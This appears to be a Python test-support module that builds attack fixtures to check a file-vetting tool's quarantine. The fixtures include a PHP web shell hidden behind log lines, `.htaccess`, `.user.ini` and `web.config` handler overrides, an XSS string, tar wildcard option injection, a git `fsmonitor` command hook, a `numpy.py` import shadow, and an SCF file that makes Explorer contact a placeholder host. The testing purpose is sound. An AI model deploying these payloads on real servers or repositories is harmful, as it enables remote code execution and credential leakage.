"""Builders of the filesystem attack e (session 32): names that a tool reading the public
area acts on (a web server's per-directory configuration, a PHP handler, `tar *`'s
options), a tree whose paths outgrow PATH_MAX, and a vet killed at a chosen step of its
promotion (inotify on the staging and public directories, then SIGKILL)."""

from __future__ import annotations

import os
import select
import signal
import subprocess
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from tests.support.attack_dfs_tools import JSON, ROOT, Inotify, Run, vet, vet_argv, vet_env, write_policy

IN_CREATE = 0x100
IN_MOVED_TO = 0x80
PATH_MAX = 4096
NOBODY = 65534
GUEST_UID = 1234  # the share's files belong to the VM's user, not to the vet's
AS_NOBODY = ("setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups")
JOB = "r"

# 40 lines of an ordinary log: libmagic types a file by its first bytes, PHP runs
# whatever follows `<?php` anywhere in the file.
LOG_HEAD = "".join(f"2026-12-04 20:{i:02d}:00,000 INFO step {i} done\n" for i in range(40))
WEB_SHELL = (LOG_HEAD + '<?php system($_GET["c"]); ?>\n').encode()
XSS_LOG = b"<img src=x onerror=alert(document.cookie)>\n"  # text: served as text/plain by name


@dataclass(frozen=True)
class Named:
    """A file the guest leaves under a name some reader of the public area acts on."""

    name: str
    data: bytes
    why: str


# Published today: each is a hit (the claim: no name dangerous to the tools that read the
# public area, no executable content under any name; docs/quarantine.md, name-type).
NAME_HOLES = (
    Named(
        ".htaccess",
        b"AddType text/html .txt\nOptions +ExecCGI\nAddHandler cgi-script .log\n",
        "Apache (AllowOverride) reads it: every .txt of the job is then served as "
        "text/html (xss.txt's onerror runs) and .log as CGI; the name-type table is moot",
    ),
    Named(
        ".user.ini",
        b"auto_prepend_file = notes.txt\n",
        "PHP-FPM/CGI reads it per directory: every PHP page there first runs notes.txt",
    ),
    Named(
        "web.config",
        b'<configuration><system.webServer><handlers><add name="x" path="*.txt" '
        b'verb="*" modules="CgiModule" scriptProcessor="C:\\x.exe" /></handlers>'
        b"</system.webServer></configuration>\n",
        "IIS reads it per directory: maps *.txt of the job to a handler",
    ),
    Named("shell.php", WEB_SHELL, "a PHP web shell behind 40 log lines: a PHP-enabled server runs it"),
    Named(
        "notes.php.txt",
        WEB_SHELL,
        "Apache's AddHandler maps every extension (the docs' own a.html.gz rule): .php runs",
    ),
)

# Refused today, and must stay so (the test can fail): Windows shell files typed by name.
NAME_REFUSED = (
    Named("view.scf", b"[Shell]\nCommand=2\nIconFile=\\\\198.51.100.9\\s\\i.ico\n", "Explorer fetches"),
    Named("lib.library-ms", b"[x]\n", "Explorer library"),
    Named("s.settingcontent-ms", b"[x]\n", "Windows settings shortcut"),
    Named("site.website", b"[x]\n", "pinned site"),
)

# `tar cf backup.tar *` in the published directory: the shell expands these names into
# options, GNU tar then runs `sh x.txt`. Empty files and a text file: all admitted types.
TAR_STAR = ("--checkpoint=1", "--checkpoint-action=exec=sh x.txt")


def make_names(q: Path, marker: Path) -> None:
    """The named files under q/web, and the `tar *` trap under q/backup."""
    web = q / "web"
    web.mkdir()
    for case in (*NAME_HOLES, *NAME_REFUSED):
        (web / case.name).write_bytes(case.data)
    (web / "xss.txt").write_bytes(XSS_LOG)
    backup = q / "backup"
    backup.mkdir()
    for name in TAR_STAR:
        (backup / name).write_bytes(b"")
    (backup / "x.txt").write_text(f"touch {marker}\n")
    (backup / "events.csv").write_text("run,events\n1,1000\n")


def make_repo(q: Path, marker: Path) -> Path:
    """A `.git` of three text files and two empty directories, as `git init` leaves it,
    whose config names a file system monitor: `git status` runs it (so does any shell
    prompt that shows the branch: __git_ps1, starship, oh-my-zsh, on `cd`)."""
    git = q / "repo" / ".git"
    (git / "objects").mkdir(parents=True)
    (git / "refs" / "heads").mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch {marker}; false"\n'
    )
    (q / "repo" / "hits.csv").write_text("run,hits\n1,12\n")
    return q / "repo"


def make_shadow(q: Path, marker: Path) -> Path:
    """A plain Python script named like the module an analysis imports, beside the data:
    `python -c 'import numpy'` (or an interactive session) in that directory imports it,
    the directory being sys.path[0]. libmagic calls it text/plain."""
    ana = q / "ana"
    ana.mkdir()
    (ana / "numpy.py").write_text(f"import os\nos.system('touch {marker}')\n")
    (ana / "table.txt").write_text("# a b\n1 2\n3 4\n")
    return ana


def make_deep(q: Path, levels: int = 20, width: int = 250) -> str:
    """`levels` directories of `width`-byte names (all under max_depth 32 and NAME_MAX),
    a file at the bottom; returns its relative path (over PATH_MAX)."""
    fd = os.open(q, os.O_RDONLY | os.O_DIRECTORY)
    parts = []
    try:
        for level in range(levels):
            name = chr(ord("a") + level) * width
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
            parts.append(name)
        out = os.open("bottom.txt", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=fd)
        os.write(out, b"the bottom of a deep tree\n")
        os.close(out)
    finally:
        os.close(fd)
    return "/".join([*parts, "bottom.txt"])


@dataclass(frozen=True)
class Trigger:
    """Kill the vet when the last of `chain` appears under `top`; each earlier name is a
    directory that appears there first and is watched in turn."""

    top: Path
    chain: tuple[str, ...]
    mask: int


AT_COMMITTED = (".vmguard-staging", (f"{JOB}.staging", "COMMITTED"), IN_CREATE | IN_MOVED_TO)
AFTER_PUBLISH = (".", (f"{JOB}.vet.txt",), IN_MOVED_TO)


def trigger(pub: Path, where: tuple[str, tuple[str, ...], int]) -> Trigger:
    top = pub / where[0]
    top.mkdir(mode=0o700, parents=True, exist_ok=True)
    return Trigger(top, where[1], where[2])


def kill_at(q: Path, policy: Path, log: Path, pub: Path, where: tuple, *args: str) -> bool:
    """Run `vet q --to pub/r --job r` and SIGKILL it at `where`; True if it was killed there."""
    trig = trigger(pub, where)
    watcher = Inotify()
    watcher.watch(trig.top, trig.mask)
    argv = vet_argv(q, policy, "--to", str(pub / JOB), "--job", JOB, *args)
    proc = subprocess.Popen(
        argv, env=vet_env(log), cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    step, killed = 0, False
    try:
        while proc.poll() is None and not killed:
            select.select([watcher.fd], [], [], 0.05)  # wait for an event, do not spin
            for path, _ in watcher.names():
                if path.name != trig.chain[step]:
                    continue
                if step == len(trig.chain) - 1:
                    proc.send_signal(signal.SIGKILL)
                    killed = True
                    break
                watcher.watch(path, trig.mask)
                step += 1
        proc.wait(timeout=60)
    finally:
        watcher.close()
    return killed and proc.returncode == -signal.SIGKILL


@contextmanager
def shared_top() -> Iterator[Path]:
    """A directory every user can traverse (pytest's tmp root is 0700 to root), with `pub`
    owned by nobody, for a vet run as nobody (vet's non-root mode)."""
    with tempfile.TemporaryDirectory(dir="/tmp") as top:
        base = Path(top)
        base.chmod(0o755)
        (base / "pub").mkdir()
        os.chown(base / "pub", NOBODY, NOBODY)
        yield base


def give_to_guest(q: Path) -> None:
    """Every entry of `q` (and `q`) owned by the guest's uid, as a share leaves them."""
    for base, dirs, files in os.walk(q):
        for name in [*dirs, *files]:
            os.chown(Path(base, name), GUEST_UID, GUEST_UID)
    os.chown(q, GUEST_UID, GUEST_UID)
    q.chmod(0o755)


def vet_as_nobody(base: Path, q: Path, *args: str) -> Run:
    """`vet q --to base/pub/r --format json` run as nobody, its log in base/pub."""
    pub = base / "pub"
    policy = write_policy(base / "policy.yaml")
    return vet(
        q, policy, pub / "events.jsonl", "--to", str(pub / JOB), "--job", JOB, *args, *JSON, prefix=AS_NOBODY
    )


def quarantine_of(path: Path, files: dict[str, str]) -> Path:
    path.mkdir(parents=True)
    for name, text in files.items():
        (path / name).write_text(text)
    return path
